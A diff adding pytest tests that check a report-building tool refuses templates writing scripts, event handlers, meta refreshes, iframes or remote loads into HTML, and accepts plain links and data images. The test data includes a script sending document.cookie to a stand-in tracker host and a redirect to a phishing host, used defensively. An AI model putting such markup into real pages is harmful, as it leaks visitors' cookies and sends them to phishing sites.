@@ -381,3 +381,41 @@ def test_model_methods_that_read_files_are_blocked(canary, cli, tmp_path):
     assert result.err_lines[0] == (f"rep/{COVER}:2:1: not allowed in a template: access to attribute 'parse_file' "
                                    "of 'Labels' object is unsafe.")
     assert secret not in result.err
+
+
+# -- what a template writes as HTML -------------------------------------------------------------
+
+WRITTEN = {
+    "script": ("<script>fetch('https://tracker.example/?' + document.cookie)</script>", "a <script> element"),
+    "remote-image": ('<img src="https://tracker.example/pixel.gif" alt="">', "a src= that loads"),
+    "event-handler": ('<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="" onerror="alert(1)">',
+                      "an event handler (onerror=)"),
+    "refresh": ('<meta http-equiv="refresh" content="0;url=https://phish.example/">', '<meta http-equiv="refresh">'),
+    "javascript-link": ('<a href="javascript:alert(1)">Read more</a>', "a link to a javascript: address"),
+    "style-import": ("<style>@import url(https://tracker.example/x.css);</style>", "@import in a style"),
+    "style-attribute": ('<p style="background: url(https://tracker.example/p.png)">x</p>', "a remote url() in a style"),
+    "stylesheet-link": ('<link rel="stylesheet" href="https://tracker.example/x.css">', "a <link> element"),
+    "iframe": ('<iframe src="https://tracker.example/"></iframe>', "an <iframe> element"),
+}
+
+
+@pytest.mark.parametrize("name", WRITTEN)
+def test_scripts_and_remote_loads_written_by_a_template_are_refused(name, cli, tmp_path):
+    markup, what = WRITTEN[name]
+    report = _report(tmp_path)
+    (report.parent / COVER).write_text(f'<header class="cover">\n<h1>{{{{ doc.force }}}}</h1>\n{markup}\n</header>\n',
+                                       encoding="utf-8")
+    result = cli("build", report, "-o", "site", "--format", "html")
+    assert result.code == 1, result.err
+    assert result.err_lines[0].startswith(f"rep/{COVER}:3:1: the page would have {what}"), result.err
+    assert not (tmp_path / "site").exists()
+
+
+def test_plain_links_and_data_images_in_a_template_are_fine(cli, tmp_path):
+    report = _report(tmp_path)
+    (report.parent / COVER).write_text(
+        '<header class="cover">\n<p><a href="https://www.justiceinspectorates.gov.uk/hmicfrs/">HMICFRS</a></p>\n'
+        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""><svg><use href="#x"/></svg>\n</header>\n',
+        encoding="utf-8")
+    result = cli("build", report, "-o", "site", "--format", "html")
+    assert result.code == 0, result.err
